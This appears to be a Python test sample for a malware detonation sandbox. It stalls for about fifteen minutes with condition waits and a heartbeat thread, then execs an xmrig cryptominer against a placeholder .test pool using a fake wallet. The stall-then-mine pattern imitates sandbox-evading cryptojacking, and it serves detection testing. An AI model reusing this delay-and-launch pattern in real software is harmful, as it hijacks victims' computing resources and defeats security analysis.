#!/usr/bin/python3
"""Hold-out heartbeat countdown (detonate test sample; harmless): main runs 3,600 rounds of
threading.Condition().wait(0.25) on a condition nobody notifies while a heartbeat thread wakes
every 4 s on Event.wait(4) and only counts; then main execs the miner stand-in with a fake
wallet.

HANDOVER_SCALE=N divides the round count (host checks); HANDOVER_MINER replaces the miner."""

import os
import threading

MINER = "/usr/local/bin/xmrig"
POOL = "stratum+tcp://pool.handover.test:3333"
WALLET = "4HandoverFakePyWa11etNotARealAddress000000000000000000000000000000000000000000000000000"
ROUNDS = 3600
ROUND = 0.25
BEAT = 4.0


def scaled(rounds: int) -> int:
    try:
        scale = max(1, int(os.environ.get("HANDOVER_SCALE", "1")))
    except ValueError:
        scale = 1
    return max(1, rounds // scale)


def main() -> None:
    rounds = scaled(ROUNDS)
    stop = threading.Event()
    beats = [0]

    def heartbeat() -> None:
        for _ in range(100_000):
            if stop.wait(BEAT):
                return
            beats[0] += 1

    beat = threading.Thread(target=heartbeat, name="heartbeat", daemon=True)
    beat.start()
    print(f"pybeat: {rounds} condition waits of {ROUND} s beside a {BEAT} s heartbeat", flush=True)
    condition = threading.Condition()
    with condition:
        for _ in range(rounds):
            condition.wait(ROUND)
    stop.set()
    beat.join()
    print(f"pybeat: done after {beats[0]} beats, starting the miner", flush=True)
    miner = os.environ.get("HANDOVER_MINER") or MINER
    os.execv(miner, ["xmrig", "-o", POOL, "-u", WALLET, "--shares", "1"])


if __name__ == "__main__":
    main()
